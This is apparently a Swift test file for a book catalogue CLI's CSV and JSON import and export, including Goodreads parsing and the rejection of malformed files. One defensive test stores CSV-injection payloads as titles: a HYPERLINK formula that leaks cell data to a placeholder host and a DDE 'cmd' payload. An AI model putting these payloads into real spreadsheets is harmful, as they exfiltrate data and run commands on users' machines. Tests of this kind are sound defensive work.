import Foundation
import Testing

/// `books export` and `books import`, run as the built binary: round trips that give the
/// same bytes, Goodreads' export, books updated rather than added twice, and hostile files
/// refused naming their row and field with the catalogue unchanged.
@Suite struct ImportExportTests {
    private static let solaris = "A9EF420F-038E-4072-AE51-5CF9E8D16E6A"

    /// A seeded catalogue in which Solaris has every field of version 2, text that CSV
    /// must quote included.
    private static func enrichedSandbox() throws -> BooksSandbox {
        let sandbox = try BooksSandbox.seeded()
        let edit = try sandbox.run([
            "edit", "a9ef420f", "--isbn", "0-15-602760-7", "--rating", "5", "--status", "read",
            "--notes", "The ocean, \"alive\";\nread twice", "--tag", "+sci-fi", "--tag", "+Favorites",
        ])
        #expect(edit.status == 0, "\(edit)")
        return sandbox
    }

    private static func export(_ sandbox: BooksSandbox, _ format: String) throws -> BooksRun {
        let run = try sandbox.run(["export", "--format", format])
        #expect(run.status == 0 && run.stderr.isEmpty, "\(run)")
        return run
    }

    @Test(arguments: ["csv", "json"])
    func exportImportIntoAnEmptyCatalogueAndExportAgainGivesTheSameBytes(format: String) throws {
        let source = try Self.enrichedSandbox()
        let first = try Self.export(source, format)
        let target = try BooksSandbox()
        let path = try target.file("books.\(format)", first.stdoutData)
        let imported = try target.run(["import", path])
        #expect(imported.status == 0, "\(imported)")
        let count = try source.bookCount()
        let kind = format == "csv" ? "CSV" : "JSON"
        #expect(imported.stdout == "Imported \(count) books (\(kind)): \(count) added, 0 updated, 0 unchanged.\n")
        let second = try Self.export(target, format)
        #expect(second.stdoutData == first.stdoutData)
        // Importing it again changes nothing.
        let again = try target.run(["import", path])
        #expect(again.stdout == "Imported \(count) books (\(kind)): 0 added, 0 updated, \(count) unchanged.\n", "\(again)")
    }

    /// CSV injection: a cell a spreadsheet would run (`=`, `+`, `-`, `@`, a tab or a CR
    /// first) is written behind an apostrophe, in `export` and `list --format csv`; text that
    /// begins with an apostrophe of its own keeps its bytes through export, import, export.
    @Test func cellsASpreadsheetWouldRunAreNeutralisedAndTheRoundTripStaysExact() throws {
        let source = try BooksSandbox()
        let titles = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "'=quoted already", "'Salem's Lot", "''two apostrophes", "Plain",
        ]
        for (index, title) in titles.enumerated() {
            let author = index == 0 ? "=1+1" : "A. Author"
            // `--title=…`: a value beginning with "-" is otherwise read as an option.
            let add = try source.run(["add", "--title=\(title)", "--author", author, "--date", "2020-01-0\(index + 1)", "--price", "1"])
            #expect(add.status == 0, "\(add)")
        }
        let first = try Self.export(source, "csv")
        #expect(first.stdout.contains(",'=1+1,"), "the author is neutralised too: \(first.stdout)")
        let listed = try source.run(["list", "--format", "csv", "--fields", "title,author"])
        let rows = Set(listed.stdout.components(separatedBy: "\r\n"))
        for row in [
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\",'=1+1", "'+cmd|' /C calc'!A0,A. Author",
            "'-2+3,A. Author", "'@SUM(A1),A. Author", "''=quoted already,A. Author", "'Salem's Lot,A. Author",
            "'''two apostrophes,A. Author", "Plain,A. Author",
        ] {
            #expect(rows.contains(row), "\(row) in \(listed.stdout)")
        }

        let target = try BooksSandbox()
        let imported = try target.run(["import", try target.file("books.csv", first.stdoutData)])
        #expect(imported.status == 0, "\(imported)")
        #expect(try Self.export(target, "csv").stdoutData == first.stdoutData)
        let json = try target.run(["list", "--json"]).jsonObjects()
        #expect(Set(json.compactMap { $0["title"] as? String }) == Set(titles))
    }

    @Test func theCSVHasAHeaderRowEveryFieldAndRFC4180Quoting() throws {
        let run = try Self.export(try Self.enrichedSandbox(), "csv")
        let lines = run.stdout.components(separatedBy: "\r\n")
        #expect(
            lines.first
                == "uuid,title,authors,publishDate,datePrecision,price,color,isbn,language,dateAdded,rating,status,tags,notes,"
                + "series,seriesNumber,publisher,pages,format,dateRead,readCount,review")
        let row = try #require(lines.first { $0.hasPrefix(Self.solaris) })
        #expect(row.hasPrefix("\(Self.solaris),Solaris,Stanisław Lem,1961-01-01,year,"), "\(row)")
        #expect(row.contains(",9780156027601,pl,"), "\(row)")
        #expect(row.hasSuffix(",5,read,\"Favorites, sci-fi\",\"The ocean, \"\"alive\"\";\nread twice\",,,,,,,,"), "\(row)")
    }

    @Test func showListsTheTagsAndJSONHasThem() throws {
        let sandbox = try Self.enrichedSandbox()
        let show = try sandbox.run(["show", "a9ef420f"])
        #expect(show.stdout.hasSuffix("Tags:      Favorites, sci-fi\n"), "\(show)")
        let json = try Self.export(sandbox, "json")
        #expect(json.stdout.contains("\"tags\": [\"Favorites\", \"sci-fi\"], \"notes\": \"The ocean, \\\"alive\\\";\\nread twice\", \"series\": null"))
    }

    @Test func aGoodreadsExportIsRecognisedWithItsQuotedISBNsAndShelves() throws {
        let sandbox = try BooksSandbox()
        let csv = """
            Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,Binding,Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Owned Copies
            11,Solaris,Stanisław Lem,"Lem, Stanisław",,="0156027607",="9780156027601",4,3.99,Mariner Books,Paperback,204,2002,1961,2020/05/01,2019/12/24,"favorites, sci-fi","favorites (#1), sci-fi (#3)",read,,,"Ocean, again",1,0
            22,The Left Hand of Darkness,Ursula K. Le Guin,"Le Guin, Ursula K.",,="",="",0,4.09,Ace,Paperback,304,1987,1969,,2021/01/15,to-read,to-read (#4),to-read,,,,0,0
            33,The Odyssey,Homer,"Homer, ",,="0140268863",="",5,3.80,Penguin,Paperback,541,1999,-700,,2018/03/02,"classics, currently-reading",,currently-reading,,,,1,1

            """.replacingOccurrences(of: "\n", with: "\r\n")
        let path = try sandbox.file("goodreads_library_export.csv", csv)
        let run = try sandbox.run(["import", path])
        #expect(run.status == 0, "\(run)")
        #expect(run.stdout == "Imported 3 books (Goodreads CSV): 3 added, 0 updated, 0 unchanged.\n")
        let exported = try Self.export(sandbox, "json")
        let books = try exported.jsonObjects()
        let byTitle = Dictionary(uniqueKeysWithValues: books.map { ($0["title"] as? String ?? "", $0) })
        let solaris = try #require(byTitle["Solaris"])
        #expect(solaris["isbn"] as? String == "9780156027601")
        #expect(solaris["publishDate"] as? String == "1961-01-01" && solaris["datePrecision"] as? String == "year")
        #expect(solaris["rating"] as? Int == 4 && solaris["status"] as? String == "read")
        #expect(solaris["tags"] as? [String] == ["favorites", "sci-fi"])
        #expect(solaris["dateAdded"] as? String == "2019-12-24T00:00:00Z")
        #expect(solaris["notes"] as? String == "Ocean, again" && solaris["price"] is NSNull)
        let leGuin = try #require(byTitle["The Left Hand of Darkness"])
        #expect(leGuin["isbn"] is NSNull && leGuin["rating"] is NSNull, "\(leGuin)")
        #expect(leGuin["status"] as? String == "to-read" && leGuin["tags"] as? [String] == [])
        // A year before 1 is passed over for the edition's; an ISBN-10 is kept as ISBN-13.
        let odyssey = try #require(byTitle["The Odyssey"])
        #expect(odyssey["publishDate"] as? String == "1999-01-01" && odyssey["isbn"] as? String == "9780140268867")
        #expect(odyssey["status"] as? String == "reading" && odyssey["tags"] as? [String] == ["classics"])
        // A newer export of the same library updates the same books, found by Goodreads' IDs.
        let again = try sandbox.run(["import", try sandbox.file("again.csv", csv.replacingOccurrences(of: ",0,4.09,", with: ",3,4.09,"))])
        #expect(again.stdout == "Imported 3 books (Goodreads CSV): 0 added, 1 updated, 2 unchanged.\n", "\(again)")
        #expect(try sandbox.bookCount() == 3)
    }

    /// Book Ids that are not unsigned 64-bit numbers (text, a number past 64 bits, a
    /// negative one, none at all) still name the same book at every import: re-importing
    /// the file adds nothing, however often.
    @Test func aGoodreadsRowWhoseBookIdIsNoNumberIsTheSameBookAtEveryImport() throws {
        let sandbox = try BooksSandbox()
        let csv = """
            Book Id,Title,Author,ISBN,ISBN13,My Rating,Year Published,Original Publication Year,Date Added,Bookshelves,Exclusive Shelf
            kindle-B00ABC,Solaris,Stanisław Lem,,,4,2002,1961,2019/12/24,,read
            123456789012345678901234567890,Cyberiada,Stanisław Lem,,,0,1965,1965,2019/12/24,,to-read
            -7,Fiasko,Stanisław Lem,,,0,1986,1986,2019/12/24,,to-read
            ,Głos Pana,Stanisław Lem,,,0,1968,1968,2019/12/24,,to-read
            ,Głos Pana,Another Author,,,0,1968,1968,2019/12/24,,to-read

            """
        let path = try sandbox.file("goodreads_library_export.csv", csv)
        let first = try sandbox.run(["import", path])
        #expect(first.stdout == "Imported 5 books (Goodreads CSV): 5 added, 0 updated, 0 unchanged.\n", "\(first)")
        let uuids = Set(try Self.export(sandbox, "json").jsonObjects().compactMap { $0["uuid"] as? String })
        for _ in 0..<2 {
            let again = try sandbox.run(["import", path])
            #expect(again.stdout == "Imported 5 books (Goodreads CSV): 0 added, 0 updated, 5 unchanged.\n", "\(again)")
        }
        #expect(try sandbox.bookCount() == 5)
        #expect(Set(try Self.export(sandbox, "json").jsonObjects().compactMap { $0["uuid"] as? String }) == uuids)
    }

    @Test func aBookIsUpdatedByUUIDOrByISBNNotAddedTwice() throws {
        let sandbox = try Self.enrichedSandbox()
        let count = try sandbox.bookCount()
        let csv = """
            uuid,title,author,publishDate,rating
            \(Self.solaris),Solaris,Stanisław Lem,1961,4

            """
        let byUUID = try sandbox.run(["import", try sandbox.file("uuid.csv", csv)])
        #expect(byUUID.stdout == "Imported 1 book (CSV): 0 added, 1 updated, 0 unchanged.\n", "\(byUUID)")
        // No UUID, but Solaris's ISBN (as an ISBN-10): the same book again.
        let byISBN = try sandbox.run([
            "import", try sandbox.file("isbn.csv", "title,author,publishDate,isbn,price\nSolaris,Stanisław Lem,1961,0156027607,9.99\n"),
        ])
        #expect(byISBN.stdout == "Imported 1 book (CSV): 0 added, 1 updated, 0 unchanged.\n", "\(byISBN)")
        #expect(try sandbox.bookCount() == count)
        let show = try sandbox.run(["show", "a9ef420f"])
        // Fields the files did not give (tags, notes, status) are kept.
        #expect(show.stdout.contains("Price:     9.99\n") && show.stdout.contains("Rating:    4/5\n"), "\(show)")
        #expect(show.stdout.contains("Status:    read\n") && show.stdout.contains("Tags:      Favorites, sci-fi\n"), "\(show)")
    }

    @Test(arguments: [
        ("unterminated.csv", Data("title,author,publishDate\n\"Solaris,Lem,1961\n".utf8),
         "Error: Invalid PATH row 2, field 1 '…': a quoted field is never closed"),
        ("isbn.csv", Data("title,author,publishDate,isbn\nSolaris,Lem,1961,9780156027602\n".utf8),
         "Error: Invalid PATH row 2: isbn '9780156027602': the ISBN-13's check digit is wrong (nothing was imported"),
        ("rating.csv", Data("title,author,publishDate,rating\nSolaris,Lem,1961,3\nEden,Lem,1959,9\n".utf8),
         "Error: Invalid PATH row 3: rating '9': expected a whole number from 0 to 5 (nothing was imported"),
        ("twice.csv", Data("title,author,publishDate,isbn\nSolaris,Lem,1961,9780156027601\nSolaris,Lem,1961,0156027607\n".utf8),
         "Error: Invalid PATH row 3: isbn '9780156027601': PATH row 2 has the same ISBN (nothing was imported"),
        ("latin1.csv", Data("title,author,publishDate\nCien a".utf8) + Data([0xF1]) + Data("os,Márquez,1967\n".utf8),
         "Error: Invalid PATH row 2, field 1 '…': the text is not UTF-8\n"),
        ("header.csv", Data("title,author,publishDate,shelf\nSolaris,Lem,1961,x\n".utf8),
         "Error: Invalid PATH row 1, column 4 'shelf': no such field"),
        ("held.csv",
         Data("uuid,title,author,publishDate,isbn\nDAD1D83A-69A1-48AC-A9E6-05D56C00938D,Tirant lo Blanch,Joanot Martorell,1490,9780156027601\n".utf8),
         "Error: Invalid PATH row 2: isbn '9780156027601': the book \(solaris) already has this ISBN\n"),
    ])
    func aHostileFileIsRefusedNamingRowAndFieldAndChangesNothing(name: String, contents: Data, message: String) throws {
        let sandbox = try Self.enrichedSandbox()
        let before = try Self.export(sandbox, "json").stdout
        let path = try sandbox.file(name, contents)
        let run = try sandbox.run(["import", path])
        #expect(run.status == 65, "\(run)")
        #expect(run.stdout.isEmpty)
        #expect(run.stderrLines.count == 1, "\(run)")
        #expect(run.stderr.hasPrefix(message.replacingOccurrences(of: "PATH", with: path)), "\(run)")
        #expect(try Self.export(sandbox, "json").stdout == before)
    }

    /// A catalogue whose first command is `import` (or `add`) is the reader's own: it is
    /// never seeded with the sample books, even when that import was refused, so that the
    /// listing run next shows an empty catalogue rather than 459 books not theirs.
    @Test func aCatalogueBegunByARefusedImportIsNeverSeeded() throws {
        for (status, arguments) in [
            (65, ["import", "bad.csv"]), (66, ["import", "nope.csv"]),
            (65, ["add", "--title", "Mine", "--author", "Me", "--date", "2020-13"]),
        ] {
            let sandbox = try BooksSandbox()
            _ = try sandbox.file("bad.csv", "title,author,publishDate\nSolaris,Lem,1961-13\n")
            let path = arguments.map { $0.hasSuffix(".csv") ? sandbox.directory.appendingPathComponent($0).path : $0 }
            let run = try sandbox.run(path)
            #expect(run.status == Int32(status), "\(run)")
            let list = try sandbox.run(["list"])
            #expect(list.status == 0 && list.stdout.isEmpty, "\(list)")
            #expect(list.stderr == "The catalogue has no books.\n", "\(list)")
        }
        // A usage error is no command run: it creates nothing.
        let sandbox = try BooksSandbox()
        let usage = try sandbox.run(["import"])
        #expect(usage.status == 64 || usage.status == 0, "\(usage)")
        #expect(!FileManager.default.fileExists(atPath: sandbox.store.path))
    }

    @Test func importAndSeedReadStandardInputForADash() throws {
        let sandbox = try BooksSandbox()
        let run = try sandbox.run(["import", "-"], input: Data("title,author,publishDate\nSolaris,Stanisław Lem,1961\n".utf8))
        #expect(run.status == 0, "\(run)")
        #expect(run.stdout == "Imported 1 book (CSV): 1 added, 0 updated, 0 unchanged.\n")
        let seed = try sandbox.run(
            ["seed", "--file", "-"],
            input: Data(#"[{"uuid": "12345678-9A01-4000-8000-000000000001", "title": "Ficciones", "author": "Borges", "publishDate": "1944-01-01", "price": "9.99"}]"#.utf8))
        #expect(seed.status == 0, "\(seed)")
        #expect(try sandbox.bookCount() == 2)
    }

    @Test func aSeedOfAnExportWithVersionTwoFieldsIsSentToImport() throws {
        let sandbox = try Self.enrichedSandbox()
        let path = try sandbox.file("export.json", try Self.export(sandbox, "json").stdoutData)
        let seed = try BooksSandbox().run(["seed", "--file", path])
        #expect(seed.status == 65, "\(seed)")
        // The first book's first field of version 2 (every book has a date added).
        #expect(seed.stderr.contains(" entry 1: dateAdded '\""), "\(seed)")
        #expect(seed.stderr.hasSuffix("a seed loads only uuid, title, author, publishDate, price, color, datePrecision and language; "
            + "load this file with books import to keep its dateAdded\n"), "\(seed)")
    }

    @Test func exportToAFileReplacesItWholeAndLeavesNothingOnFailure() throws {
        let sandbox = try Self.enrichedSandbox()
        let path = sandbox.directory.appendingPathComponent("books.csv").path
        try Data("old".utf8).write(to: URL(fileURLWithPath: path))
        let run = try sandbox.run(["export", "-o", path])
        #expect(run.status == 0, "\(run)")
        let count = try sandbox.bookCount()
        #expect(run.stdout == "Exported \(count) books to \(path).\n")
        // The extension chose CSV; the file is what standard output gets.
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == (try Self.export(sandbox, "csv")).stdoutData)
        let names = try FileManager.default.contentsOfDirectory(atPath: sandbox.directory.path)
        #expect(!names.contains { $0.hasPrefix(".books.csv.") }, "\(names)")

        let missing = sandbox.directory.appendingPathComponent("no/such/dir/books.json").path
        let failed = try sandbox.run(["export", "--output", missing])
        #expect(failed.status == 1, "\(failed)")
        #expect(failed.stderr.hasPrefix("Error: Cannot write \(missing): No such file or directory; nothing was written."))
        let directory = try sandbox.run(["export", "-o", sandbox.directory.path])
        #expect(directory.status == 1 && directory.stderr.contains("it is a directory"), "\(directory)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: sandbox.directory.path).sorted() == names.sorted())
    }

    @Test func anUnknownFormatIsAUsageError() throws {
        let run = try BooksSandbox().run(["export", "--format", "xml"])
        #expect(run.status == 64, "\(run)")
        #expect(run.stderr.hasPrefix("Error: The value 'xml' is invalid for '--format <csv|json>': must be one of json, csv"), "\(run)")
    }
}
